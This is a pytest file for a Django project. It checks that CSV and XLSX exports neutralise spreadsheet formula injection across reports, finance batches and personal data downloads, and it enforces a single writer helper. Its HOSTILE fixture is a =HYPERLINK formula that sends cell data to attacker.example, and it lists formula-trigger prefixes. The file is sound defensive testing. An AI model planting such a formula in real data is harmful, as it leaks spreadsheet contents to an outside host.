"""Every CSV and XLSX the project writes goes through lib.spreadsheets, so text
that a spreadsheet program would run as a formula reaches the file inert."""

import ast
import io
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

import coproduce
from coproduce.lib.spreadsheets import XlsxBook, csv_text, inert

HOSTILE = '=HYPERLINK("https://attacker.example/?d="&A1,"Open")'
HOSTILE_STARTS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
)


@pytest.mark.parametrize("text", HOSTILE_STARTS)
def test_text_a_spreadsheet_would_run_is_made_plain(text):
    assert inert(text) == "'" + text
    assert csv_text([[text]]).startswith(("'", "\"'"))


def test_numbers_and_ordinary_text_stay_as_they_are():
    assert [inert(value) for value in (-5, 2.5, None, True, "Ada", "a=b")] == [
        -5, 2.5, None, True, "Ada", "a=b",
    ]  # fmt: skip


def test_xlsx_text_is_a_string_cell_never_a_formula_and_numbers_stay_numbers():
    book = XlsxBook()
    book.sheet("A: [sheet]").append([HOSTILE, -3, "bell\x07"])
    sheet = load_workbook(io.BytesIO(book.to_bytes())).active
    formula, number, control = sheet[1]
    assert (formula.value, formula.data_type) == (HOSTILE, "s")
    assert (number.value, number.data_type) == (-3, "n")
    assert control.value == "bell"


def _xlsx_cell(content, value):
    book = load_workbook(io.BytesIO(content))
    return next(
        cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value == value
    )


@pytest.mark.django_db
def test_a_hostile_module_title_reaches_the_board_report_inert(client_as, people):
    from coproduce.insights.tests.data import build
    from coproduce.learning.models import Module

    build(1, people["lead"])
    Module.objects.create(
        title=HOSTILE, description="d", content="c", required_for=["staff"], active=True
    )
    client = client_as("board")
    cell = _xlsx_cell(client.get(reverse("insights:report_xlsx")).content, HOSTILE)
    assert cell.data_type == "s"
    archive = zipfile.ZipFile(io.BytesIO(client.get(reverse("insights:report_csv")).content))
    training = next(name for name in archive.namelist() if "staff-trained" in name)
    text = archive.read(training).decode()
    assert "'=HYPERLINK" in text and '\n"=HYPERLINK' not in text and "\n=HYPERLINK" not in text


@pytest.mark.django_db
def test_a_hostile_name_reaches_the_finance_export_inert(client_as, people):
    from coproduce.payments import actions
    from coproduce.payments.tests.factories import make_claim

    claimant = people["coproducer"]
    claimant.name = HOSTILE
    claimant.save()
    actions.save_bank_details(
        person=claimant, account_name="+44 trick", sort_code="30-94-57", account_number="12345678"
    )
    claim = make_claim(claimant=claimant, days_ago=3)
    actions.submit(claim=claim, by=claimant)
    actions.approve(claim=claim, by=people["lead"])
    batch = actions.create_batch(claims=[claim], by=people["finance"])
    client = client_as("finance")
    text = client.get(reverse("payments:batch_csv", args=[batch.pk])).content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'+44 trick" in text
    cell = _xlsx_cell(client.get(reverse("payments:batch_xlsx", args=[batch.pk])).content, HOSTILE)
    assert cell.data_type == "s"


@pytest.mark.django_db
def test_a_hostile_name_reaches_the_personal_download_inert(client_as, people):
    person = people["coproducer"]
    person.name = HOSTILE
    person.save()
    response = client_as("coproducer").post(reverse("privacy:my_data"), {"action": "download"})
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    account = next(name for name in archive.namelist() if name.startswith("csv/01-"))
    text = archive.read(account).decode()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text


def _writes_a_spreadsheet_itself(tree):
    """Whether a module calls the csv writers or makes an openpyxl workbook."""
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            names = {alias.name for alias in node.names}
            if node.module == "csv" and names & {"writer", "DictWriter"}:
                return True
            if node.module.startswith("openpyxl") and "Workbook" in names:
                return True
        if isinstance(node, ast.Import | ast.ImportFrom):
            module = node.module if isinstance(node, ast.ImportFrom) else None
            if any((module or alias.name).startswith("xlsxwriter") for alias in node.names):
                return True
        if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter", "Workbook"}:
            owner = node.value
            if isinstance(owner, ast.Name) and owner.id in {"csv", "openpyxl"}:
                return True
    return False


def test_the_guard_sees_each_way_of_writing_a_spreadsheet():
    for source in (
        "import csv\ncsv.writer(out)",
        "import csv\ncsv.DictWriter(out, [])",
        "from csv import writer",
        "from openpyxl import Workbook",
        "import openpyxl\nopenpyxl.Workbook()",
        "import xlsxwriter",
    ):
        assert _writes_a_spreadsheet_itself(ast.parse(source)), source
    assert not _writes_a_spreadsheet_itself(ast.parse("import csv\ncsv.reader(text)"))


def test_only_the_helper_writes_csv_or_xlsx():
    """Test files may build raw spreadsheets to upload; the project's own code may not."""
    package = Path(coproduce.__file__).parent
    helper = package / "lib" / "spreadsheets.py"
    offenders = [
        str(path.relative_to(package))
        for path in sorted(package.rglob("*.py"))
        if path != helper
        and "tests" not in path.relative_to(package).parts
        and _writes_a_spreadsheet_itself(ast.parse(path.read_text()))
    ]
    assert not offenders, f"Write CSV and XLSX through coproduce.lib.spreadsheets: {offenders}"
